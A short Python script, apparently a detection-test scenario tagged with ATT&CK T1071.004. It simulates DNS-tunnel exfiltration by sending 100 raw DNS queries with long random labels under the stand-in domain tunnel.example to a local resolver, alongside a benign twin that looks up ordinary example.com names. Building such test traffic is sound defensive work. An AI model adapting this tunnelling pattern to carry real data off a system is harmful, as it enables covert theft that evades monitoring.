#!/usr/bin/python3
# Data leaves in names that are asked for: long, random, all of one domain.
#: title: DNS tunnel
#: technique: T1071.004
#: needs: dns
#: twin: a few names are asked for, as everybody does
import os
import socket
import struct

from lib import did, main


def ask(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(query, ("127.0.0.1", 53))


def attack():
    for _ in range(100):
        ask(f"{os.urandom(24).hex()}.{os.urandom(24).hex()}.tunnel.example")
    did("tunnel.example")


def twin():
    for name in ("www.example.com", "mail.example.com"):
        ask(name)
    did("example.com")


main(attack, twin)
